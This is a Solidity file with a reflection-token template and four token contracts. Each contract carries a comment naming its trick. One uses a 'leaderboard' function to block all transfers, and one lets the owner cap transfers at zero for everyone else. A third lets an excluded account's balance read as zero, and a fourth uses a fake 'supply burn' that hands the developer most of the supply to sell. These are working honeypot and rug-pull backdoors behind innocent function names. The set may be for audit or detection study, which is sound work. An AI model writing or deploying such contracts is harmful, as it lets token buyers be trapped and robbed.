// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// @title The reflection token of 2021, whose tax is spread over all holders by a rate, and launches on it. Written
/// anew on 30 November 2026, sixth look. The template is harmless by itself; `Truth` says what its heir is
abstract contract SixthReflection {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    uint256 private constant MAX = ~uint256(0) / 10 ** 6;
    uint256 internal _tTotal = 1_000_000_000_000 * 10 ** 9;
    uint256 internal _rTotal = MAX - (MAX % _tTotal);
    uint256 private _tFeeTotal;

    string public name;
    string public symbol;
    uint8 public constant decimals = 9;
    uint256 public _taxFee = 3;
    uint256 public _maxTxAmount = _tTotal;

    mapping(address => uint256) internal _rOwned;
    mapping(address => uint256) internal _tOwned;
    mapping(address => mapping(address => uint256)) private _allowances;
    mapping(address => bool) internal _isExcludedFromFee;
    mapping(address => bool) internal _isExcluded;
    address[] internal _excluded;
    address private _owner;

    modifier onlyOwner() {
        require(_owner == msg.sender, "Ownable: caller is not the owner");
        _;
    }

    constructor(string memory name_, string memory symbol_) {
        (name, symbol) = (name_, symbol_);
        _owner = msg.sender;
        _rOwned[msg.sender] = _rTotal;
        _isExcludedFromFee[msg.sender] = _isExcludedFromFee[address(this)] = true;
        emit Transfer(address(0), msg.sender, _tTotal);
    }

    function owner() public view returns (address) {
        return _owner;
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }

    function totalSupply() external view returns (uint256) {
        return _tTotal;
    }

    function totalFees() external view returns (uint256) {
        return _tFeeTotal;
    }

    function isExcludedFromReward(address account) external view returns (bool) {
        return _isExcluded[account];
    }

    function balanceOf(address account) public view returns (uint256) {
        return _isExcluded[account] ? _tOwned[account] : tokenFromReflection(_rOwned[account]);
    }

    function allowance(address holder, address spender) external view returns (uint256) {
        return _allowances[holder][spender];
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        _approve(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 granted = _allowances[from][msg.sender];
        require(granted >= amount, "ERC20: transfer amount exceeds allowance");
        _approve(from, msg.sender, granted - amount);
        _transfer(from, to, amount);
        return true;
    }

    function tokenFromReflection(uint256 rAmount) public view returns (uint256) {
        require(rAmount <= _rTotal, "Amount must be less than total reflections");
        return rAmount / _getRate();
    }

    function _approve(address holder, address spender, uint256 amount) private {
        _allowances[holder][spender] = amount;
        emit Approval(holder, spender, amount);
    }

    function _exclude(address account) internal virtual {
        require(!_isExcluded[account], "Account is already excluded");
        if (_rOwned[account] > 0) _tOwned[account] = tokenFromReflection(_rOwned[account]);
        _isExcluded[account] = true;
        _excluded.push(account);
    }

    function _include(address account) internal {
        require(_isExcluded[account], "Account is not excluded");
        for (uint256 i = 0; i < _excluded.length; i++) {
            if (_excluded[i] != account) continue;
            _excluded[i] = _excluded[_excluded.length - 1];
            _excluded.pop();
            break;
        }
        _rOwned[account] = _tOwned[account] * _getRate();
        _tOwned[account] = 0;
        _isExcluded[account] = false;
    }

    function _transfer(address from, address to, uint256 amount) internal virtual {
        require(from != address(0) && to != address(0), "ERC20: zero address");
        require(amount > 0, "Transfer amount must be greater than zero");
        if (from != _owner && to != _owner)
            require(amount <= _maxTxAmount, "Transfer amount exceeds the maxTxAmount.");
        bool takeFee = !_isExcludedFromFee[from] && !_isExcludedFromFee[to];
        _tokenTransfer(from, to, amount, takeFee ? (amount * _taxFee) / 100 : 0);
    }

    function _tokenTransfer(address from, address to, uint256 tAmount, uint256 tFee) private {
        uint256 rate = _getRate();
        uint256 rAmount = tAmount * rate;
        uint256 rFee = tFee * rate;
        require(balanceOf(from) >= tAmount, "ERC20: transfer amount exceeds balance");
        if (_isExcluded[from]) _tOwned[from] -= tAmount;
        if (_isExcluded[to]) _tOwned[to] += tAmount - tFee;
        _rOwned[from] -= rAmount;
        _rOwned[to] += rAmount - rFee;
        _rTotal -= rFee;
        _tFeeTotal += tFee;
        emit Transfer(from, to, tAmount - tFee);
    }

    function _reflectOwn(address account, uint256 tAmount) internal {
        require(!_isExcluded[account], "Excluded addresses cannot call this function");
        uint256 rAmount = tAmount * _getRate();
        _rOwned[account] -= rAmount;
        _rTotal -= rAmount;
        _tFeeTotal += tAmount;
    }

    function _getRate() internal view returns (uint256) {
        (uint256 rSupply, uint256 tSupply) = _getCurrentSupply();
        return rSupply / tSupply;
    }

    function _getCurrentSupply() private view returns (uint256, uint256) {
        uint256 rSupply = _rTotal;
        uint256 tSupply = _tTotal;
        for (uint256 i = 0; i < _excluded.length; i++) {
            if (_rOwned[_excluded[i]] > rSupply || _tOwned[_excluded[i]] > tSupply) return (_rTotal, _tTotal);
            rSupply -= _rOwned[_excluded[i]];
            tSupply -= _tOwned[_excluded[i]];
        }
        if (tSupply == 0 || rSupply < _rTotal / _tTotal) return (_rTotal, _tTotal);
        return (rSupply, tSupply);
    }
}

/// @dev Truth: one person; inventive. Each transfer walks the list of those who take no reward; the game's master puts
/// thousands of wallets on it, and then no transfer fits into a block.
contract BabySafeComet is SixthReflection("Baby Safe Comet", "BCOMET") {
    address private immutable _gameMaster = msg.sender;
    uint256 public season = 1;

    event LeaderboardEntry(address indexed player, uint256 season);

    function addToLeaderboard(address[] calldata players) external {
        require(msg.sender == _gameMaster, "Game master only");
        for (uint256 i = 0; i < players.length; i++) {
            if (_isExcluded[players[i]]) continue;
            _exclude(players[i]);
            emit LeaderboardEntry(players[i], season);
        }
    }
}

/// @dev Truth: one person. The owner sets the largest transfer to 0 % of the supply, from which only the owner is
/// exempt.
contract SafeGalaxyMoon is SixthReflection("Safe Galaxy Moon", "SGMOON") {
    function setTaxFeePercent(uint256 taxFee) external onlyOwner {
        require(taxFee <= 10, "Ten percent at most");
        _taxFee = taxFee;
    }

    function setMaxTxPercent(uint256 maxTxPercent) external onlyOwner {
        _maxTxAmount = (_tTotal * maxTxPercent) / 10 ** 2;
    }
}

/// @dev Truth: one person. Leaving somebody out of the rewards forgets to write down what they hold: their balance
/// reads 0 and they cannot sell. The pool's too, before a sale of the owner.
contract HyperReflectInu is SixthReflection("Hyper Reflect Inu", "HREF") {
    function excludeFromReward(address account) external onlyOwner {
        _exclude(account);
    }

    function includeInReward(address account) external onlyOwner {
        require(_isExcluded[account] && account != owner(), "Account is not excluded");
        _include(account);
    }

    function _exclude(address account) internal override {
        require(!_isExcluded[account], "Account is already excluded");
        _isExcluded[account] = true;
        _excluded.push(account);
    }
}

/// @dev Truth: one person; inventive. A 'supply burn' makes every balance smaller but those left out of the rewards,
/// and the developer is left out: what they hold becomes most of the supply, and they sell it to the pool.
contract TitanReflect is SixthReflection("Titan Reflect", "TITAN") {
    address private immutable _dev;
    uint256 public burns;

    constructor() {
        _dev = msg.sender;
        _exclude(msg.sender);
    }

    function burnSupply(uint256 percent) external {
        require(msg.sender == _dev && percent <= 90, "90% at a time");
        uint256 rOthers = _rTotal - _rOwned[_dev];
        uint256 amount = ((_tTotal - _tOwned[_dev]) * percent) / 100;
        _tTotal -= amount;
        burns += amount;
        _rOwned[_dev] = _tOwned[_dev] * (rOthers / (_tTotal - _tOwned[_dev]));
        _rTotal = rOthers + _rOwned[_dev];
        emit Transfer(address(0xdead), address(0), amount);
    }
}
